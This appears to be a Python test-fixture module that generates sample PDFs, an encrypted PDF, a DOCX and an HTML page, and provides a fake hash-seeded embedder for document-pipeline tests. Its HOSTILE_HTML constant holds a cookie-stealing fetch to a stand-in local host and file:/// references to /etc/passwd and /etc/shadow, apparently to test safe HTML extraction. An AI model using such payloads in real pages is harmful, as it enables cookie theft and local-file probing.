"""Real sample documents made in the tests: PDFs (with text, without, encrypted), DOCX, HTML.

The PDF writer is minimal and hand-made (pypdf cannot lay out text): one
Helvetica text object per page, with a correct cross-reference table, so
pypdf reads it strictly. A page given as None has no content stream: a scan
as far as a text extractor can tell.
"""

from __future__ import annotations

import functools
import hashlib
from collections.abc import Sequence
from pathlib import Path

import numpy as np

from desktop_app.core.documents.embedders import UniversalSentenceEncoder, Vectors, normalised


def _pdf_string(text: str) -> str:
    return "(" + text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ")"


def make_pdf(path: Path, pages: Sequence[str | None]) -> Path:
    """A PDF with one page per item: its lines of (Latin-1) text, or None for no text."""
    objects: list[bytes] = []
    page_ids = [4 + 2 * i for i in range(len(pages))]
    objects.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    kids = " ".join(f"{i} 0 R" for i in page_ids)
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>".encode())
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    for page_id, text in zip(page_ids, pages, strict=True):
        lines = (text or "").split("\n")
        ops = ["BT", "/F1 11 Tf", "14 TL", "72 760 Td"]
        for line in lines:
            ops.append(f"{_pdf_string(line)} Tj T*")
        ops.append("ET")
        stream = "\n".join(ops).encode("latin-1") if text is not None else b""
        contents = f" /Contents {page_id + 1} 0 R" if text is not None else ""
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources "
                       f"<< /Font << /F1 3 0 R >> >>{contents} >>".encode())
        objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n"
            "%%EOF\n").encode()
    path.write_bytes(bytes(out))
    return path


def make_encrypted_pdf(path: Path, source: Path, password: str = "secret") -> Path:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(source))
    writer.encrypt(user_password=password, owner_password=password, algorithm="AES-256")
    with open(path, "wb") as stream:
        writer.write(stream)
    return path


def make_docx(path: Path) -> Path:
    import docx

    document = docx.Document()
    document.add_heading("Quarterly report", level=1)
    document.add_paragraph("Revenue grew by twelve percent in the third quarter.")
    document.add_heading("Staff", level=2)
    document.add_paragraph("The office in Lyon hired four engineers.")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "City"
    table.cell(0, 1).text = "Engineers"
    table.cell(1, 0).text = "Lyon"
    table.cell(1, 1).text = "4"
    document.save(str(path))
    return path


HOSTILE_HTML = """<!doctype html><html><head><title>Trap page</title>
<link rel="stylesheet" href="http://127.0.0.1:9/tracker.css">
<script>fetch('http://127.0.0.1:9/steal?'+document.cookie)</script>
<style>body { background: url(file:///etc/passwd) }</style></head>
<body><h1>Visible heading</h1>
<p>Visible text &amp; more <img src="file:///etc/passwd" alt="ALT-TEXT"> after image.</p>
<iframe src="file:///etc/shadow">IFRAME-TEXT</iframe>
<script>document.write('INJECTED')</script>
<h2>Second part</h2><p>Closing words.</p></body></html>"""


class FakeEmbedder:
    """A deterministic embedder for tests that need vectors but not meaning.

    Each text maps to a pseudo-random unit vector seeded by its hash. It counts
    the texts it embedded, and runs ``hook(call_number)`` before each call so
    a test can cancel a run mid-way.
    """

    def __init__(self, name: str = "fake", dims: int = 16) -> None:
        self._name = name
        self._dims = dims
        self.calls = 0
        self.texts: list[str] = []
        self.hook: object = None

    @property
    def name(self) -> str:
        return self._name

    @property
    def dims(self) -> int:
        return self._dims

    def embed(self, texts: Sequence[str]) -> Vectors:
        self.calls += 1
        if callable(self.hook):
            self.hook(self.calls)
        self.texts.extend(texts)
        rows = []
        for text in texts:
            seed = int.from_bytes(hashlib.sha256(text.encode()).digest()[:8], "little")
            rows.append(np.random.default_rng(seed).standard_normal(self._dims))
        return normalised(np.asarray(rows, dtype=np.float32).reshape(len(texts), self._dims))


@functools.cache
def shared_use() -> UniversalSentenceEncoder:
    """The real bundled embedder, loaded once per test session (CLI tests share it too)."""
    encoder = UniversalSentenceEncoder(threads=1)
    encoder.embed(["warm up"])
    return encoder
